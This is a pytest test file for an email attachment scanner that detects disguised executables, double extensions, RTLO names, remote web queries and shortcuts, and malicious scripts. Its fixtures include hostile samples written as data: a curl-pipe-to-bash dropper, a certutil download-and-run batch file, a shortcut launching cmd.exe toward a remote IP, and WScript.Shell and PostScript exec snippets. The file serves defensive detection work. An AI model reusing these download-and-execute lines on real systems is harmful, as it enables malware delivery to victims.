"""File type by content and the name checks (risky/double extension, RTLO, mismatch)."""

from __future__ import annotations

import pytest

from coinguard.analyzers.filetype import FileTypeAnalyzer, extensions, last_extension, risky_url_target
from coinguard.findings import Finding, Item, Verdict
from coinguard.sniff import sniff

from helpers import make_context, make_message, read_corpus_sample, zip_bytes

SCORES = {c.code: c.score for c in FileTypeAnalyzer.codes}
PE = b"MZ" + b"\x00" * 0x3A + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x00" * 200


def run(data: bytes, name: str, declared: str = "", role: str = "attachment") -> list[Finding]:
    item = Item(path=name, name=name, data=data, type=sniff(data), declared_type=declared, role=role)
    analyzer = FileTypeAnalyzer()
    if not analyzer.applies_to(item):
        return []
    return [f for f in analyzer.handle(item, make_context()) if isinstance(f, Finding)]


def codes(data: bytes, name: str, declared: str = "", role: str = "attachment") -> set[str]:
    return {f.code for f in run(data, name, declared, role)}


def test_executable_disguised_as_pdf() -> None:
    found = codes(PE, "wallet.pdf.exe", "application/pdf")
    assert found == {"file.executable", "file.double_extension.runs", "file.type_mismatch"}
    assert sum(SCORES[c] for c in found) >= 15


STRENGTHS = {c.code: c.strength for c in FileTypeAnalyzer.codes}


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        # what runs is a program or a script of the hidden extension's kind: conclusive
        (PE, "invoice.pdf.exe", "file.double_extension.runs"),
        (PE, "report___________.scr", "file.double_extension.runs"),
        (b"var s = new ActiveXObject('Scripting.FileSystemObject');\n", "scan.jpg.js", "file.double_extension.runs"),
        (b'Set o = CreateObject("Scripting.FileSystemObject")\r\n', "Rechnung.pdf.vbs", "file.double_extension.runs"),
        # the disguise without content of that kind stays strong (a shortcut has its own analyzer; text named
        # .js is graded by file.risky_extension; a PE under a script extension does not run)
        # (an unparsable shortcut: what it does is unknown)
        (b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 80, "invoice.docx.lnk", "file.double_extension"),
        (b"hello world, nothing to see here\n", "notes.pdf.js", "file.double_extension"),
        (PE, "invoice.pdf.js", "file.double_extension"),
    ],
)
def test_double_extension_is_conclusive_only_over_what_runs(data: bytes, name: str, code: str) -> None:
    found = codes(data, name)
    assert code in found and {"file.double_extension", "file.double_extension.runs"} - {code} - found
    assert STRENGTHS[code] == ("conclusive" if code.endswith(".runs") else "strong")


@pytest.mark.parametrize(
    ("query", "code"),
    [
        (b"WEB\r\n1\r\nhttps://198.51.100.7/q.php?x=1\r\n", "file.iqy.remote"),  # Excel fetches and runs the reply
        (b"WEB\n1\nhttp://x.example/stock.txt\n\nSelection=AllTables\n", "file.iqy.remote"),
        (b"WEB\r\n1\r\n\\\\files.example\\share\\q.txt\r\n", "file.iqy.remote"),
        (b"WEB\r\n1\r\nC:\\data\\local.htm\r\n", "file.iqy"),  # a query of a local file: strong
    ],
)
def test_web_query_fetching_a_url_is_conclusive(query: bytes, code: str) -> None:
    assert sniff(query) == "iqy"
    assert codes(query, "prices.iqy") == {code}


def test_plain_executable_named_exe() -> None:
    assert codes(PE, "setup.exe", "application/octet-stream") == {"file.executable"}


def test_script_named_as_document() -> None:
    js = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n"
    assert codes(js, "invoice.pdf") == {"file.script", "file.script_behavior", "file.type_mismatch"}


def test_script_text_named_txt_is_inert() -> None:
    js = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n"
    found = run(js, "snippet.txt", "text/plain")
    assert {f.code: f.score for f in found} == {"file.script": 2.0, "file.script_behavior": 4.0}
    assert {f.code: f.score for f in run(js, "snippet.js", "text/plain")} == {
        "file.script": None, "file.script_behavior": None,
    }


def test_text_named_js_is_a_script_by_extension() -> None:
    assert codes(b"hello world, nothing to see here\n", "notes.js") == {"file.risky_extension"}


def test_postscript_exploit_outside_hwp() -> None:
    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n/a 100 string def a 0 (cmd.exe /c calc) putinterval a cvx exec\n"
    assert codes(eps, "image1.eps", role="member") == {"file.postscript_exploit"}
    assert codes(b"%!PS-Adobe-3.0 EPSF-3.0\nnewpath 0 0 moveto 10 10 lineto stroke\n", "logo.eps") == set()


def test_non_pe_named_exe_cannot_run() -> None:
    # the PE loader refuses it: only content makes an .exe dangerous (file.executable)
    assert codes(b"this is not a program\n", "test.exe") == set()
    assert codes(b"@echo off\r\nstart calc.exe\r\n", "run.cmd") == {"file.script"}


def test_rtlo_and_padding() -> None:
    assert codes(PE, "photo\u202egpj.exe") == {"file.executable", "file.rtlo"}
    assert codes(b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 80, "invoice.docx      .lnk") == {"file.double_extension"}
    assert codes(PE, "report___________.scr") == {"file.executable", "file.double_extension.runs"}


def test_benign_names_and_types_stay_quiet() -> None:
    assert codes(b"a,b\n1,2\n", "data.csv", "text/csv") == set()
    assert codes(b"PK\x05\x06" + b"\x00" * 18, "archive.docx", "application/zip") == set()
    assert codes(b"%PDF-1.4\n%%EOF\n", "scan.pdf", "application/octet-stream") == set()
    # extracted text and bodies are not files the sender named
    assert codes(b"var s = new ActiveXObject('x');", "<document-text>", role="text") == set()
    assert codes(PE, "<onenote-file-1>", role="embedded") == {"file.executable"}


def test_url_shortcut_targets() -> None:
    assert codes(b"[InternetShortcut]\r\nURL=https://example.org/\r\n", "link.url") == {"file.url_shortcut"}
    remote = b"[InternetShortcut]\r\nURL=file://198.51.100.9/share/doc.cpl\r\nIconFile=C:\\x\\msedge.exe\r\n"
    assert codes(remote, "DocuSign.url") == {"file.url_shortcut", "file.url_remote_target"}
    assert risky_url_target("URL", "https://198.51.100.9/a") == "URL points to a raw IP address 'https://198.51.100.9/a'"
    assert risky_url_target("WorkingDirectory", "\\\\evil\\share\\").startswith("WorkingDirectory is a UNC")
    assert risky_url_target("URL", "https://www.google.com/") == ""


def test_extension_helpers() -> None:
    assert extensions("a.pdf.exe") == ["pdf", "exe"]
    assert last_extension("invoice.pdf.exe. . ") == "exe"
    assert last_extension("README") == ""


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("path", "expected"),
    [
        # obfuscated JScript: the behaviour is computed at run time, the hiding is what shows
        ("maldocs/inquest/026b02380e79af4b1b0282c2473828c6fb9c76a421bba09ff2019415c6c6976a.js.zip",
         {"file.script", "file.script_obfuscated"}),
        ("maldocs/inquest/7a2dd16bb0f74ebf7268b784d74dc494ee817a01c5ace5bbc12e21f943caf189.hta.zip",
         {"file.script", "file.script_behavior"}),
        ("maldocs/inquest/91237a76e43caa35e3fbd42d47fbaca5d6b5ea7a96c89341196d070b628122ce.bat.zip",
         {"file.script", "file.script_behavior"}),
        ("maldocs/inquest/2d4fd302be0dd3a1d62c41dbcf1c97b3bcdbecafb169839611aac81a4ad51e73.ps1.zip",
         {"file.script", "file.script_behavior"}),
        ("maldocs/inquest/remit.vbs.zip", {"file.script", "file.script_behavior"}),
        ("maldocs/inquest/helpfile_jpg.chm.zip", {"file.chm"}),
        ("maldocs/inquest/DocuSign1.url.zip", {"file.url_shortcut", "file.url_remote_target"}),
        ("maldocs/inquest/CVE-2023-36025.url.zip", {"file.url_shortcut", "file.url_remote_target"}),
        ("maldocs/inquest/leak.url.zip", {"file.url_shortcut", "file.url_remote_target"}),
        ("maldocs/inquest/insert-script-201805.url.zip", {"file.url_shortcut", "file.url_remote_target"}),
        ("maldocs/strelka/test.iqy.zip", {"file.iqy.remote"}),
    ],
)
def test_corpus_scripts_and_shortcuts(corpus_dir: object, path: str, expected: set[str]) -> None:
    name = path.rsplit("/", 1)[-1].removesuffix(".zip")
    assert codes(read_corpus_sample(path), name) == expected


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("benign/attachments/malware-samples/testing-benign-google.url", {"file.url_shortcut"}),
        # a .bat is a risky type by policy: file.script alone (5) tags it, nothing more
        ("benign/attachments/strelka/test.bat", {"file.script"}),  # weak (3): no behaviour
        ("benign/attachments/strelka/test.pdf", set()),
        ("benign/attachments/pyhwpscan/sample.hwp", set()),
    ],
)
def test_corpus_benign(corpus_dir: object, path: str, expected: set[str]) -> None:
    found = codes(read_corpus_sample(path), path.rsplit("/", 1)[-1])
    assert found == expected
    assert sum(SCORES[c] for c in found) < 5


# -- issue 11: de-obfuscated behaviour, bare eval, XSL and macOS shell scripts -------------------
def test_bare_eval_is_a_script_but_not_behaviour() -> None:
    js = b"var cfg = eval('(' + text + ')');\nfunction show(c) { return c.name; }\n"
    assert codes(js, "config.js") == {"file.script"}


def test_obfuscated_vbs_behaviour_is_found_after_deobfuscation() -> None:
    vbs = b'Dim o\nSet o = CreateObject(Chr(87) & Chr(83) & "cri" & "pt.Sh" & "ell")\no.Run "calc", 0\n'
    found = run(vbs, "invoice.vbs")
    assert {f.code for f in found} == {"file.script", "file.script_behavior"}
    assert "after de-obfuscation" in next(f.detail for f in found if f.code == "file.script_behavior")


def test_xsl_script_carrier() -> None:
    xsl = b"""<?xml version='1.0'?><stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt">
<ms:script implements-prefix="user" language="JScript">var r = new ActiveXObject("WScript.Shell").Run("calc");
</ms:script></stylesheet>"""
    assert codes(xsl, "style.xsl") == {"file.script", "file.script_behavior"}


def test_macos_shell_scripts() -> None:
    dropper = b"#!/bin/bash\ncurl -fsSL https://x.example/i | bash\n"
    assert codes(dropper, "Wallet Fix.command") == {"file.script", "file.script_behavior"}
    # a .sh opens in an editor on a Mac: its behaviour is reported weak (score 4), not as a runnable script
    found = run(dropper, "install.sh")
    assert {f.code for f in found} == {"file.script_behavior"} and found[0].strength == "weak"
    assert codes(b"#!/bin/sh\necho hello\n", "build.sh") == set()


def test_script_named_txt_is_weak_evidence() -> None:
    found = run(b'Set o = CreateObject("WScript.Shell")\no.Run "calc"\n', "notes.txt")
    assert found and all(f.strength == "weak" for f in found if f.code.startswith("file.script"))


# -- issue 11: risky types graded by behaviour ---------------------------------------------------
STUB = b"a 26-byte stub, no program"  # not even an MZ header: nothing in it runs, only its name deceives
assert len(STUB) == 26


def _scan(raw: bytes) -> Verdict:
    from coinguard.config import parse_config
    from coinguard.scan import ScanContext, scan_message

    cfg = parse_config('[dkim]\nnameservers = ["127.0.0.1"]\ndns_port = 9\ndns_timeout_s = 0.05\n')
    return scan_message(raw, ScanContext(config=cfg))


@pytest.mark.parametrize(
    "name",
    ["invoice.pdf" + " " * 40 + ".exe", "invoice.doc" + "_" * 30 + ".scr", "receipt" + "\u3000" * 12 + ".js"],
)
def test_long_padding_before_a_running_extension_is_the_evasion(name: str) -> None:
    found = run(STUB, name)
    assert "file.double_extension.runs" in {f.code for f in found}
    assert STRENGTHS["file.double_extension.runs"] == "conclusive"
    # short padding over content that cannot run stays strong
    assert "file.double_extension" in codes(STUB, "invoice.pdf   .exe")


def test_padded_stub_in_a_zip_is_quarantined() -> None:
    msg = make_message(attachments=[("docs.zip", zip_bytes({"invoice.pdf" + " " * 40 + ".exe": STUB}))])
    v = _scan(msg)
    assert v.verdict == "malicious" and v.action == "quarantine", v.basis
    assert "conclusive: file.double_extension.runs" in v.basis


def test_batch_scripts_graded_by_behaviour() -> None:
    downloader = (b"@echo off\r\ncertutil -urlcache -split -f http://203.0.113.8/a.txt %TEMP%\\a.exe\r\n"
                  b"start %TEMP%\\a.exe\r\n")
    found = run(downloader, "update.bat")
    assert {f.code for f in found} == {"file.script", "file.script_behavior"}
    v = _scan(make_message(attachments=[("update.bat", downloader)]))
    assert v.verdict == "malicious" and "file.script_behavior" in v.basis
    helper = (b"@echo off\r\nSETLOCAL\r\nIF \"%1\" == \"\" GOTO help\r\n\"C:\\Tools\\flash.exe\" -c usb %*\r\n"
              b"GOTO exit\r\n:help\r\necho Usage: flash [part]\r\n:exit\r\n")
    found = run(helper, "flash.bat")
    assert [(f.code, f.score, f.strength) for f in found] == [("file.script", None, "")]
    assert SCORES["file.script"] < 5 and STRENGTHS["file.script"] is None  # weak by its score
    v = _scan(make_message(attachments=[("flash.bat", helper)]))
    assert v.verdict == "clean", v.findings


def test_admin_can_still_block_every_script_and_shortcut() -> None:
    from coinguard.config import parse_config
    from coinguard.scan import ScanContext, scan_message

    helper = b"@echo off\r\necho hello\r\nC:\\Tools\\flash.exe -c usb\r\n"
    cfg = parse_config('[dkim]\nnameservers = ["127.0.0.1"]\ndns_port = 9\ndns_timeout_s = 0.05\n'
                       '[policy.scores]\n"file.script" = 15\n')
    v = scan_message(make_message(attachments=[("flash.bat", helper)]), ScanContext(config=cfg))
    assert v.verdict == "malicious" and v.action == "quarantine", v.basis


def test_hidden_code_keeps_the_script_strong() -> None:
    codes_list = b",".join(b"%d" % c for c in b"abcdefghijklmnopqrstuvwxyz")
    js = b"var a = String.fromCharCode(" + codes_list + b");\neval(a);\n"
    found = {f.code: f for f in run(js, "invoice.js")}
    assert set(found) == {"file.script", "file.script_obfuscated"}
    assert found["file.script"].strength == "strong"


def test_bidi_control_graded_by_the_real_extension() -> None:
    strong = run(STUB, "photo\u202egpj.exe")
    assert [(f.code, f.strength) for f in strong if f.code == "file.rtlo"] == [("file.rtlo", "")]
    assert STRENGTHS["file.rtlo"] == "conclusive"
    # an Arabic/Hebrew name with a right-to-left mark over a harmless extension
    weak = [f for f in run(b"%PDF-1.4\n", "\u05d3\u05d5\u05d7\u200f.pdf") if f.code == "file.rtlo"]
    assert [(f.score, f.strength) for f in weak] == [(2.0, "weak")]


def test_shortcut_double_extension_graded_by_what_it_opens() -> None:
    from analyzers.test_lnk import build_lnk

    runs = build_lnk(r"C:\Windows\System32\cmd.exe", args="/c start http://203.0.113.2/x")
    assert "file.double_extension.runs" in codes(runs, "invoice.pdf.lnk")
    to_document = build_lnk(r"C:\Users\kim\Documents\sample.hwp")
    assert codes(to_document, "sample.hwp.lnk") == set()  # it opens the .hwp its name shows
    # forty blanks before .lnk are the evasion even over a harmless target
    assert "file.double_extension.runs" in codes(to_document, "sample.hwp" + " " * 40 + ".lnk")
